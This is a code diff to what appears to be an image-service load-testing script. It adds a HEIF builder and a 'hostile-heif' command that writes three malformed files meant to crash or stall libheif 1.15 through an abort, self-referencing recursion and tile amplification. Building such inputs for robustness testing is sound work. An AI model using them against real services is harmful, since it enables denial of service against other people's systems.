@@ -27,6 +27,51 @@ def sources(args):
             f.write(png(args.width, args.height, index))
 
 
+def heif(primary, items, references):
+    """The `meta` of a HEIF file with no coded data: items (id, type, ispe size or None, data
+    kept in idat) and references (type, from, [to]), the structure libheif reads."""
+    be = lambda value, size: value.to_bytes(size, "big")
+    box = lambda kind, payload: be(8 + len(payload), 4) + kind + payload
+    full = lambda kind, payload, version=0: box(kind, bytes([version, 0, 0, 0]) + payload)
+    infes = b"".join(full(b"infe", be(i, 2) + be(0, 2) + t + b"\0", 2) for i, t, _, _ in items)
+    iref = full(b"iref", b"".join(box(t, be(f, 2) + be(len(to), 2) + b"".join(be(x, 2) for x in to))
+                                   for t, f, to in references))
+    located, offset = b"", 0
+    for i, _, _, data in [item for item in items if item[3]]:
+        located += be(i, 2) + be(1, 2) + be(0, 2) + be(1, 2) + be(offset, 4) + be(len(data), 4)
+        offset += len(data)
+    iloc = full(b"iloc", bytes([0x44, 0]) + be(sum(1 for item in items if item[3]), 2) + located, 1)
+    properties, associations = [full(b"pixi", bytes([3, 8, 8, 8]))], b""
+    for i, _, size, _ in items:
+        indices = [1]
+        if size:
+            properties.append(full(b"ispe", be(size[0], 4) + be(size[1], 4)))
+            indices.append(len(properties))
+        associations += be(i, 2) + bytes([len(indices)] + indices)
+    iprp = box(b"iprp", box(b"ipco", b"".join(properties)) + full(b"ipma", be(len(items), 4) + associations))
+    meta = full(b"meta", full(b"hdlr", be(0, 4) + b"pict" + be(0, 12) + b"\0") + full(b"pitm", be(primary, 2))
+                + full(b"iinf", be(len(items), 2) + infes) + iloc + box(b"idat", b"".join(it[3] for it in items))
+                + iref + iprp)
+    return box(b"ftyp", b"heic" + be(0, 4) + b"mif1heic") + meta
+
+
+def hostile_heif(args):
+    """HEIF files libheif 1.15 cannot survive: an overlay of a non-image (an abort), a grid made
+    from itself (endless recursion, then an abort), one 4096x4096 tile named 256 times (hours of decoding)."""
+    os.makedirs(args.dir, exist_ok=True)
+    grid = lambda rows, columns, w, h: bytes([0, 0, rows - 1, columns - 1]) + w.to_bytes(2, "big") + h.to_bytes(2, "big")
+    overlay = bytes([0, 0]) + b"\xff" * 8 + (64).to_bytes(2, "big") * 2 + bytes(4)
+    files = {
+        "h-overlay.heic": heif(1, [(1, b"iovl", (64, 64), overlay), (2, b"Exif", None, bytes(4))], [(b"dimg", 1, [2])]),
+        "h-cycle.heic": heif(1, [(1, b"grid", (64, 64), grid(1, 1, 64, 64))], [(b"dimg", 1, [1])]),
+        "h-amplified.heic": heif(1, [(1, b"grid", (512, 512), grid(16, 16, 512, 512)), (2, b"hvc1", (4096, 4096), b"")],
+                                 [(b"dimg", 1, [2] * 256)]),
+    }
+    for name, data in files.items():
+        with open(os.path.join(args.dir, name), "wb") as f:
+            f.write(data)
+
+
 def origin(args):
     counts, lock = {}, threading.Lock()
 
@@ -224,6 +269,7 @@ def main():
     p = sub.add_parser("sources"); p.add_argument("--dir"); p.add_argument("--count", type=int, default=20)
     p.add_argument("--width", type=int, default=640); p.add_argument("--height", type=int, default=480)
     p = sub.add_parser("origin"); p.add_argument("--dir"); p.add_argument("--port", type=int)
+    p = sub.add_parser("hostile-heif"); p.add_argument("--dir")
     p = sub.add_parser("load"); p.add_argument("--target"); p.add_argument("--urls"); p.add_argument("--out")
     p.add_argument("--requests", type=int, default=600); p.add_argument("--concurrency", type=int, default=8)
     p.add_argument("--fault-at", type=int, default=0); p.add_argument("--fault-cmd", default="")
@@ -234,7 +280,7 @@ def main():
     p.add_argument("--key"); p.add_argument("--salt"); p.add_argument("--origin-file"); p.add_argument("--replacement")
     p.add_argument("--purge-cmd"); p.add_argument("--settle", type=float, default=1.5)
     args = parser.parse_args()
-    {"sources": sources, "origin": origin, "load": load, "table": table,
+    {"sources": sources, "hostile-heif": hostile_heif, "origin": origin, "load": load, "table": table,
      "purge-check": purge_check}[args.command](args)
 
 
